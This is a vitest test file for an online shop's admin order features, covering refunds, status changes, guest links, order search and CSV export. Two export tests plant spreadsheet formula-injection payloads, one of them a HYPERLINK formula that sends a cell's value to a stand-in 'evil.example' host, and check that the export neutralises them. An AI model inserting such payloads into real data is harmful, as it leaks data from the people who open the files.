import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { settleOpen } from '../../../test/assert-invariants.ts';
import { addProduct, adminCaller, buy, fault, ledger, pay } from '../../../test/fixtures.ts';
import { openShop, type TestShop } from '../../../test/test-app.ts';

let shop: TestShop;
beforeAll(async () => {
  shop = await openShop();
});
afterAll(() => shop.close());

const asAdmin = adminCaller(() => shop);
const page = async (id: string) => (await asAdmin('GET', `/user/order/${id}`)).body;
const findStock = async (slug: string) => (await shop.call('GET', `/product/products/${slug}`)).body.product.quantity;

describe('An order in the admin', () => {
  it('shows its history: placed, paid, status changes with the admin’s name, and the emails that were sent', async () => {
    const bear = await addProduct(shop, { name: 'History Bear', price: 500, quantity: 3 });
    const order = await buy(shop, bear, shop.tokens.asha);
    await asAdmin('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
    await asAdmin('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
    const mails = (await shop.outbox()).filter((mail) => mail.includes('asha@demo.shop') && mail.includes(order._id));
    expect(mails.map((mail) => /^Subject: (.*)$/m.exec(mail)?.[1])).toEqual([
      `Your order #${order.number} at Dhaaga`,
      `Shipped: your order #${order.number} at Dhaaga`,
    ]);
    const { events } = await page(order._id);
    // Emails are sent by a job, so their position in the history varies.
    const filterEvents = (kind: string) => events.filter((event: { kind: string }) => event.kind === kind);
    expect(events.slice(0, 2)).toMatchObject([{ what: 'Order placed' }, { what: 'Paid ₹500' }]);
    expect(filterEvents('status')).toMatchObject([{ what: 'Not Processed → Shipped', by: 'Kavita Joshi' }]);
    expect(filterEvents('unsent_email')).toMatchObject([
      { what: `“Your order #${order.number} at Dhaaga” not sent: no mail server` },
      { what: `“Shipped: your order #${order.number} at Dhaaga” not sent: no mail server` },
    ]);
    expect((await shop.call('GET', `/user/order/${order._id}`, { token: shop.tokens.asha })).status).toBe(403);
    expect((await asAdmin('GET', '/user/order/000000000000000000000000')).status).toBe(404);
  });

  it('changes its status together with others, all or none', async () => {
    const bear = await addProduct(shop, { name: 'Bulk Bear', price: 500, quantity: 5 });
    const ids = [await buy(shop, bear, shop.tokens.asha), await buy(shop, bear, shop.tokens.meera)].map(
      ({ _id }) => _id,
    );
    const unknown = await asAdmin('PUT', '/user/order-statuses', {
      orderIds: [...ids, '000000000000000000000000'],
      status: 'Delivered',
    });
    expect(unknown.status).toBe(404);
    expect((await page(ids[0] ?? '')).order.status).toBe('Not Processed');
    const moved = await asAdmin('PUT', '/user/order-statuses', { orderIds: ids, status: 'Delivered' });
    expect(moved.body).toMatchObject({ success: true, message: '2 orders set to Delivered' });
    for (const id of ids) expect((await page(id)).order.status).toBe('Delivered');
    for (const orderIds of [[], ['x'], Array.from({ length: 101 }, () => ids[0])])
      expect((await asAdmin('PUT', '/user/order-statuses', { orderIds, status: 'Shipped' })).status).toBe(400);
  });
});

describe('A refund', () => {
  it('goes back in parts until nothing is left, and the buyer gets an email', async () => {
    const bear = await addProduct(shop, { name: 'Refund Bear', price: 1000, quantity: 3 });
    const order = await buy(shop, bear, shop.tokens.meera);
    const asked = await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 250.5 });
    expect(asked.body).toMatchObject({ success: true, refundable: 749.5 });
    const findBuyersPayment = async () => {
      const { body } = await shop.call('GET', '/user/orders', { token: shop.tokens.meera });
      return body.find((one: { _id: string }) => one._id === order._id).payment;
    };
    expect(order.payment).toMatchObject({ refunded: false, refundedAmount: 0 });
    expect(await findBuyersPayment()).toMatchObject({ refunded: false, refundedAmount: 250.5 });
    await shop.quiet();
    expect((await page(order._id)).refunds).toMatchObject([{ amount: 250.5, state: 'processed' }]);
    const tooMuch = await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 750 });
    expect(tooMuch).toMatchObject({ status: 409, body: { errors: [{ path: 'amount' }] } });
    expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(200);
    await shop.quiet();
    expect(await page(order._id)).toMatchObject({ refundable: 0, isRestocked: false });
    expect(await findBuyersPayment()).toMatchObject({ refunded: true, refundedAmount: 1000 });
    expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(409);
    const sent = (await ledger(shop)).refunds.filter((one) => one.payment_id === order.payment.razorpay_payment_id);
    expect(sent.map(({ amount }) => amount)).toEqual([25_050, 74_950]);
    const mails = (await shop.outbox()).filter(
      (mail) => mail.includes('Your refund from Dhaaga') && mail.includes(order._id),
    );
    expect(mails).toHaveLength(2);
    for (const amount of [0, -1, 0.001, 1e9])
      expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount })).status, String(amount)).toBe(400);
  });

  it('takes a rest with it that is less than the smallest refund', async () => {
    const bear = await addProduct(shop, { name: 'Paise Bear', price: 100.5, quantity: 1 });
    const { _id } = await buy(shop, bear, shop.tokens.meera);
    const { body } = await asAdmin('POST', `/user/order/${_id}/refunds`, { amount: 100 });
    expect(body).toMatchObject({ refundable: 0, refunds: [{ amount: 100.5 }] });
    expect(body.message).toContain('The last ₹0.50 goes back with it, because less than ₹1 could not go back later.');
  });

  it('restocks the pieces once, on request', async () => {
    const bear = await addProduct(shop, { name: 'Restock Bear', price: 1000, quantity: 3 });
    const order = await buy(shop, bear, shop.tokens.meera);
    expect(await findStock(bear.slug)).toBe(2);
    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
    expect(await findStock(bear.slug)).toBe(3);
    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
    expect(await findStock(bear.slug)).toBe(3);
  });

  it('is sent once although the provider’s response was lost, and shows a refusal', async () => {
    const bear = await addProduct(shop, { name: 'Lost Answer Bear', price: 1000, quantity: 3 });
    const lost = await buy(shop, bear, shop.tokens.meera);
    await fault(shop, { route: 'POST /v1/payments', kind: 'drop_after' });
    await asAdmin('POST', `/user/order/${lost._id}/refunds`, {});
    await expect.poll(async () => (await page(lost._id)).refunds[0].state, { timeout: 20_000 }).toBe('processed');
    const sent = (await ledger(shop)).refunds.filter((one) => one.payment_id === lost.payment.razorpay_payment_id);
    expect(sent).toHaveLength(1);

    const refused = await buy(shop, bear, shop.tokens.meera);
    await fault(shop, { route: 'POST /v1/payments', kind: 'status', value: 400 });
    await asAdmin('POST', `/user/order/${refused._id}/refunds`, {});
    await expect.poll(async () => (await page(refused._id)).refunds[0].state, { timeout: 20_000 }).toBe('failed');
    expect(await page(refused._id)).toMatchObject({ refundable: 1000, refunds: [{ refusal: expect.any(String) }] });
  });

  it('waits while the account’s balance is too low, and does not fail', async () => {
    const bear = await addProduct(shop, { name: 'Poor Bear', price: 1000, quantity: 3 });
    const order = await buy(shop, bear, shop.tokens.meera);
    await fault(shop, { route: 'POST /v1/payments', kind: 'low_balance' });
    await asAdmin('POST', `/user/order/${order._id}/refunds`, {});
    await shop.quiet();
    expect((await page(order._id)).refunds).toMatchObject([{ state: 'asked' }]);
    const { rows } = await shop.db.pool.query(
      `select start_after - now() as wait from pgboss.job where name = 'refund' and start_after > now() + interval '50 minutes'`,
    );
    expect(rows).toHaveLength(1);
  });

  it('is refused for an order that was never paid, and to everybody but an admin', async () => {
    const bear = await addProduct(shop, { name: 'Unpaid Bear', price: 1000, quantity: 3 });
    const opened = await shop.call('POST', '/product/orders', {
      token: shop.tokens.asha,
      body: { amount: 100_000, product: { id: bear._id, price: 1000 } },
    });
    await pay(shop, opened.body.id, 'failed');
    const order = await buy(shop, bear, shop.tokens.meera);
    const own = await shop.call('POST', `/user/order/${order._id}/refunds`, { token: shop.tokens.meera, body: {} });
    expect(own.status).toBe(403);
    expect((await asAdmin('POST', '/user/order/000000000000000000000000/refunds', {})).status).toBe(404);
  });

  it('is sent automatically when a payment arrives after the stock is gone', async () => {
    const bear = await addProduct(shop, { name: 'Late Bear', price: 700, quantity: 1 });
    const [late, quick] = await Promise.all(
      [shop.tokens.asha, shop.tokens.meera].map(async (token, n) => {
        if (n === 1) return null;
        const body = { amount: 70_000, product: { id: bear._id, price: 700 } };
        return (await shop.call('POST', '/product/orders', { token, body })).body.id as string;
      }),
    );
    expect(quick).toBeNull();
    await shop.db.pool.query(`update holds set held_until = now() - interval '1 minute'`);
    await buy(shop, bear, shop.tokens.meera);
    const answer = await shop.call('POST', '/product/payment-callback', { body: await pay(shop, String(late)) });
    expect(answer.status).toBe(409);
    await shop.quiet();
    expect(await page(answer.body.order)).toMatchObject({
      order: { status: 'Cancelled', refundDue: true },
      refunds: [{ amount: 700, state: 'processed' }],
    });
    expect((await shop.outbox()).some((mail) => mail.includes('goes back') && mail.includes(answer.body.order))).toBe(
      true,
    );
  });
});

describe('The link in an email', () => {
  it('opens the order without a login, and no other link does', async () => {
    const bear = await addProduct(shop, { name: 'Guest Bear', price: 600, quantity: 4 });
    const delivery = {
      name: 'Neha Guest',
      phone: '98111 22333',
      email: 'neha.guest@example.com',
      address: '3 Lake Road, Udaipur',
    };
    const opened = await shop.call('POST', '/product/orders', {
      body: { amount: 60_000, product: { id: bear._id, price: 600 }, delivery },
    });
    await shop.call('POST', '/product/payment-callback', { body: await pay(shop, opened.body.id) });
    const mail = (await shop.outbox()).find((one) => one.includes('neha.guest@example.com')) ?? '';
    const key = /\/order\/([\w-]{43})/.exec(mail.replace(/=\r?\n/g, ''))?.[1];
    const { body, headers } = await shop.call('GET', `/order/${key}`);
    expect(body.order).toMatchObject({ buyer: { name: 'Neha Guest' }, products: [{ name: 'Guest Bear' }] });
    expect(headers['cache-control']).toBe('no-store');
    expect((await shop.call('GET', `/order/${'x'.repeat(43)}`)).status).toBe(404);
    expect((await shop.call('GET', `/order/${body.order._id}`)).status).toBe(400);
  });
});

describe('The list of orders', () => {
  it('is searched, filtered, sorted and paged by the server', async () => {
    const cheap = await addProduct(shop, { name: 'Cheap Charm', price: 11, quantity: 50 });
    const dear = await addProduct(shop, { name: 'Dear Doll', price: 9000, quantity: 50 });
    const first = await buy(shop, cheap, shop.tokens.asha);
    await buy(shop, dear, shop.tokens.meera);
    const list = async (query: string) => await asAdmin('GET', `/user/all-orders?${query}`);
    const largest = await list('sort=largest&limit=1');
    expect(largest.body).toMatchObject([{ totalAmount: 9000 }]);
    expect(Number(largest.headers['x-total-count'])).toBeGreaterThan(1);
    expect((await list('sort=smallest&limit=1')).body).toMatchObject([{ totalAmount: 11 }]);
    for (const search of ['asha@demo', 'ASHA MEH', '98290 111', first._id, first.payment.razorpay_payment_id])
      expect(
        (await list(`search=${encodeURIComponent(String(search))}`)).body.map((one: { _id: string }) => one._id),
        String(search),
      ).toContain(first._id);
    for (const search of ['nobody', '%', '_', '\\', "'"])
      expect((await list(`search=${encodeURIComponent(search)}`)).body).toEqual([]);
    expect((await list('status=Processing')).body).toEqual([]);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Kolkata' }).format(new Date());
    expect((await list(`from=${today}&to=${today}`)).body.length).toBeGreaterThan(1);
    expect((await list('to=2020-01-01')).body).toEqual([]);
    expect((await list('page=9999')).body).toEqual([]);
    for (const query of [
      'status=Lost',
      'payment=maybe',
      'from=yesterday',
      'from=2026-02-31x',
      'sort=random',
      'page=0',
      'limit=0',
    ])
      expect((await list(query)).status, query).toBe(400);
  });

  it('is exported as CSV without cells that spreadsheets run as formulas', async () => {
    const bear = await addProduct(shop, { name: '=HYPERLINK("http://evil")', price: 321, quantity: 1 });
    await buy(shop, bear, shop.tokens.asha);
    const { body, headers } = await asAdmin('GET', '/user/orders.csv?search=asha');
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(body).toContain(`"'=HYPERLINK(""http://evil"")","1","321"`);
    expect((await shop.call('GET', '/user/orders.csv')).status).toBe(401);
  });

  it('is exported as CSV in which an address with line breaks and formulas is one cell', async () => {
    const bear = await addProduct(shop, { name: 'Formula Bear', price: 300, quantity: 4 });
    const address = '1 Fort Road\n=HYPERLINK("http://evil.example?"&A1,"click")\u2028@SUM(1)';
    const delivery = { name: 'Guest Gita', phone: '98111 22333', email: 'formula@example.com', address };
    const body = { amount: 30_000, product: { id: bear._id }, delivery };
    const opened = await shop.call('POST', '/product/orders', { body });
    await shop.call('POST', '/product/payment-callback', { body: await pay(shop, opened.body.id) });
    const file = (await asAdmin('GET', '/user/orders.csv?search=formula')).body as string;
    const [order, ...others] = parse(file, { bom: true, columns: true }) as Record<string, string>[];
    expect(others).toEqual([]);
    expect(order?.Address).toMatch(/^1 Fort Road\n'=HYPERLINK.*\n'@SUM/);
    expect(order?.Buyer).toBe('Guest Gita');
  });

  it('adds up to the numbers of the last days', async () => {
    await settleOpen(shop.db);
    const before = (await asAdmin('GET', '/user/numbers?days=7')).body;
    const bear = await addProduct(shop, { name: 'Counted Bear', price: 400, quantity: 9 });
    const order = await buy(shop, bear, shop.tokens.asha);
    await buy(shop, bear, shop.tokens.asha);
    await buy(shop, bear, shop.tokens.asha);
    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 150 });
    await shop.quiet();
    const after = (await asAdmin('GET', '/user/numbers?days=7')).body;
    expect(after.orders - before.orders).toBe(3);
    expect(after.revenue - before.revenue).toBeCloseTo(1_050);
    expect(after.days).toHaveLength(7);
    expect(after.days.at(-1).revenue).toBeCloseTo(after.revenue);
    const counted = ({ bestSellers }: { bestSellers: { _id: string; sold: number }[] }) =>
      bestSellers.find(({ _id }) => _id === bear._id)?.sold;
    expect(counted(after)).toBe(3);
    await asAdmin('POST', `/user/order/${order._id}/refunds`, {});
    await shop.quiet();
    const refunded = (await asAdmin('GET', '/user/numbers?days=7')).body;
    expect(refunded.orders - before.orders).toBe(2);
    expect(refunded.revenue - before.revenue).toBeCloseTo(800);
    expect(counted(refunded)).toBe(2);
    expect((await asAdmin('GET', '/user/numbers?days=8')).status).toBe(400);
    expect((await shop.call('GET', '/user/numbers?days=7', { token: shop.tokens.asha })).status).toBe(403);
  });
});
